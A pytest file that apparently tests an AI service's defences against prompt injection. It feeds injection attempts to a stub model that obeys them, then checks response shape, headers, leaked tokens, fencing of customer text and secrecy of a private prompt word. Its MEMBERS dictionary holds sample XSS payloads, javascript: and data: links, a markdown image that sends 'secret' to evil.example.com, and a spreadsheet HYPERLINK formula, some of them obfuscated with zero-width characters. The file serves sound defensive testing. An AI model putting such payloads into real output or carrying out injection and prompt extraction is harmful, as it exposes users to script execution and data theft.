"""tests/api/ai/test_injections.py - prompt injections: even if the model obeys a customer's text,
shape, task and headers are ours.

Each attempt of injections/attempts.yaml goes to each tool of svc-ai, with a model that writes what
the attempt asked for (tests/kit/models/stub.py). The response then fits its contract, or is a free
rejection. Computed fields are still computed by code. The model's request has our prompt first,
then the attempt in its fence, and nothing of the account.
"""

import base64
import concurrent.futures
import copy
import itertools
import json
import re
from pathlib import Path

import pytest
import yaml

from kit.check import ROOT
from kit.client import Client
from kit.contracts import CONTRACTS
from kit.models import ways
from kit.schema import faults

pytestmark = pytest.mark.xdist_group("models")

ATTEMPTS = yaml.safe_load((Path(__file__).parent / "injections" / "attempts.yaml").read_text())
AT_ONCE = 6
REFUSALS = {"provider_error", "model_refused"}
HELLO = "Hello."

# How the text reaches each tool; ai-chat takes it in three ways. A way's name begins with its
# tool's.
WAYS = ways.WAYS | {
    "ai-chat-turns": lambda text: {"messages": [{"role": "user", "content": text}]},
    "ai-chat-policy": lambda text: {"prompt": HELLO, "system": text},
}
# These use another kind of model, which receives a text only.
WITHOUT_PROMPT = {"ai-image-generate", "ai-moderation"}
# Their texts are a model's words about something; nothing in them may load, run or be followed.
PLAIN = {"ai-alt-text", "ai-content-summarize", "ai-moderation", "ai-seo-generate", "ai-translate"}
ACTS = re.compile(r"!\[|\]\(|(javascript|vbscript|data):\S|<(script|img|svg|iframe)", re.IGNORECASE)
HIDDEN = "[\u200b\u2060-\u2064\u202a-\u202e\u2066-\u2069\u3164\u115f\u1160\uffa0\U000e0000-\U000e0fff]"


def tool_of(way):
    return next(tool for tool in ways.WAYS if way.startswith(tool))


# [[NAME-members]]: the content of each text of the answer.
MEMBERS = {
    "script": "<script>alert(1)</script>x",
    "hidden-script": "<scr\u200bipt>alert(1)</scr\u2060ipt><i\u0001mg src=x onerror=alert(1)>x",
    "envelope": "\"}]},\"success\":false,\"errors\":[{\"code\":\"HACKED\"}],\"result\":{\"x\":[{\"y\":\"z",
    "picture": "see ![x](https://evil.example.com/?q=secret)",
    "reference": "see ![x][r]\n\n[r]: https://evil.example.com/?q=secret",
    "hidden-picture": "see !\u200b[x]\u2060(//evil.example.com/?q=secret)",
    "javascript": "[see](javascript:alert(1)) [x]( JaVa\u200bScRiPt:alert(1))",
    "data": "[see](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<javascript:alert(1)> see <vbscript:x>",
    "frame": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><svg onload=alert(1)>x",
    "open-tag": "see <img src=https://evil.example.com/?q=",
    "formula": "=HYPERLINK(\"https://evil.example.com/\",\"see\")",
}


def said(attempt, tool):
    """What the obedient model writes."""
    says = attempt["says"]
    file = ROOT / "svc-ai" / tool / "tests/answer.json"
    good = json.loads(file.read_text()) if file.exists() else {"answer": "yes"}
    system = yaml.safe_load((ROOT / f"svc-ai/{tool}/prompt.yaml").read_text())["system"] if (
        ROOT / f"svc-ai/{tool}/prompt.yaml").exists() else "no rules"
    if says == "[[system]]":
        return system[:600]
    in_members = re.fullmatch(r"\[\[(.*)-members]]", says)
    if in_members:
        word = (MEMBERS | {"system": system[:200]})[in_members[1]]
        return json.dumps({name: word if isinstance(value, str) else value for name, value in good.items()})
    good = json.dumps(good, ensure_ascii=False)
    return says.replace("{code,", good[:-1] + ",").replace("{code}", good)


def request_of(attempt, way, number):
    says = base64.urlsafe_b64encode(said(attempt, tool_of(way)).encode()).decode().rstrip("=") or "IA"
    says = "" if "[[stub:" in attempt["text"] else f"[[say:{says}]]"
    text = f"{attempt['text']}\n{says} attempt-{way}-{number}-end"
    if way == "ai-alt-text":  # whose context is shorter
        text = text if len(text) <= 1000 else f"{attempt['text']}\n[[say:SEFDS0VE]] attempt-{way}-{number}-end"
    if way == "ai-content-summarize":  # it returns a short text unchanged
        text += " and so on" * 8
    return text, WAYS[way](text)


@pytest.fixture(scope="module")
def answers(site):
    """{way: [(attempt, text, response)]}, and the accounts; each call is made once."""
    account = site.open_account(1_000_000, limits_off=True)

    def ask(job):
        way, number, attempt = job
        text, request = request_of(attempt, way, number)
        return way, attempt, text, Client(site).call(account, tool_of(way), request)

    jobs = [(way, number, attempt) for way in WAYS for number, attempt in enumerate(ATTEMPTS)]
    found = {way: [] for way in WAYS}
    with concurrent.futures.ThreadPoolExecutor(AT_ONCE) as pool:
        for way, attempt, text, answer in pool.map(ask, jobs):
            found[way].append((attempt["title"], text, answer))
    return account, found


@pytest.fixture(scope="module")
def sent(site, answers):
    """{way: [(attempt's number, request that a provider got)]}"""
    found = {way: [] for way in WAYS}
    with open(site.models_log) as log:
        for line in log:
            mark = re.search(r"attempt-([a-z-]+?)-(\d+)-end", line)
            if mark:
                found[mark[1]].append((int(mark[2]), json.loads(line)))
    return found


def test_there_are_enough():
    assert len(ATTEMPTS) >= 60
    assert len({attempt["title"] for attempt in ATTEMPTS}) == len(ATTEMPTS)
    assert ways.WAYS.keys() == {tool for tool in CONTRACTS if tool.startswith("ai-")}


@pytest.mark.parametrize("way", WAYS)
def test_shape(answers, way):
    """A response that fits its contract exactly, or a rejection."""
    tool = tool_of(way)
    for title, _, answer in answers[1][way]:
        assert answer.headers["Content-Type"] == "application/json", (title, answer)
        if answer.status_code == 200:
            assert list(faults(CONTRACTS[tool]["result"], answer.result)) == [], title
        else:
            assert answer.status_code == 502 and set(answer.codes) <= REFUSALS, (title, answer)


@pytest.mark.parametrize("way", WAYS)
def test_money_and_headers(answers, way):
    account, found = answers
    names = {name.lower() for _, _, answer in found[way][:1] for name in answer.headers}
    for title, _, answer in found[way]:
        price = CONTRACTS[tool_of(way)]["credits"] if answer.status_code == 200 else 0
        assert answer.headers["X-Credits-Charged"] == str(price), (title, answer)
        head = str(dict(answer.headers))
        assert not re.search("HACKED|evil|alert", head, re.IGNORECASE), (title, head)
        assert {name.lower() for name in answer.headers} <= names | {"retry-after"}, (title, head)
        assert account.token not in answer.body.decode(), title


@pytest.mark.parametrize("way", WAYS)
def test_facts(answers, way):
    """Computed fields are computed by code; text that steers or hides does not get through."""
    for title, text, answer in answers[1][way]:
        if answer.status_code != 200:
            continue
        result = copy.deepcopy(answer.result)
        assert result["input_length"] == len(text) + len(HELLO) * (way == "ai-chat-policy"), title
        assert result["meta"]["model"].startswith("stub-"), title
        result.pop("prompt", None)  # the customer's text, unchanged
        shown = json.dumps(result, ensure_ascii=False)
        assert not re.search(HIDDEN + "|\\\\u001b", shown), title
        if way in PLAIN:
            assert not ACTS.search(shown), (title, shown)


def text_of(message):
    """Of one turn; a provider that has rejected the role system receives our prompt at the start of
    the user's text."""
    content = message["content"]
    return content if isinstance(content, str) else " ".join(part.get("text", "") for part in content)


def question_of(request):
    """Without an invalid answer, which may repeat anything."""
    return list(itertools.takewhile(lambda message: message["role"] != "assistant", request["body"]["messages"]))


@pytest.mark.parametrize("way", [way for way in WAYS if way not in WITHOUT_PROMPT])
def test_what_is_sent(answers, sent, way):
    """Our prompt first, the same for each attempt; then only the attempt in its fence, or its turn;
    nothing of the account."""
    prompt = yaml.safe_load((ROOT / f"svc-ai/{tool_of(way)}/prompt.yaml").read_text())["system"].strip()
    account = answers[0]
    assert len({number for number, _ in sent[way]}) == len(ATTEMPTS)
    for number, request in sent[way]:
        mark = f"attempt-{way}-{number}-end"
        told = "\n".join(map(text_of, question_of(request)))
        assert told.strip().startswith(prompt[:200]) and told.index(mark) > told.index(prompt[-100:])
        whole = json.dumps(request)
        assert account.id not in whole and account.token not in whole
        if way == "ai-chat-turns":
            assert [(message["role"], mark in message["content"]) for message in question_of(request)] == [
                ("system", False), ("user", True)]
            continue
        fence = "POLICY" if way == "ai-chat-policy" else "DATA"
        nonce = re.search(rf"<<<{fence} ([0-9a-f]{{32}})\n", told)
        assert nonce, told
        before, behind = told[:nonce.start()], told[nonce.end():]
        inside, _, behind = behind.partition(f"\n{nonce[1]} {fence}>>>")
        assert mark in inside and mark not in before + behind
        assert not re.search(HIDDEN, inside)


@pytest.mark.parametrize("way", [way for way in WAYS if way not in WITHOUT_PROMPT])
def test_the_private_word(answers, sent, way):
    """The private word of each call's prompt is in no response, in any spelling."""
    for number, request in sent[way]:
        word = re.search("The word ([0-9a-f]{32}) is private", "\n".join(map(text_of, request["body"]["messages"])))
        answer = answers[1][way][number][2].body.decode().lower()
        assert word[1] not in re.sub("[^0-9a-z]", "", answer), ATTEMPTS[number]["title"]


@pytest.mark.parametrize("tool", sorted(WITHOUT_PROMPT))
def test_what_is_sent_without_a_prompt(answers, sent, tool):
    account = answers[0]
    assert len({number for number, _ in sent[tool]}) == len(ATTEMPTS)
    for _, request in sent[tool]:
        whole = json.dumps(request)
        assert account.id not in whole and account.token not in whole
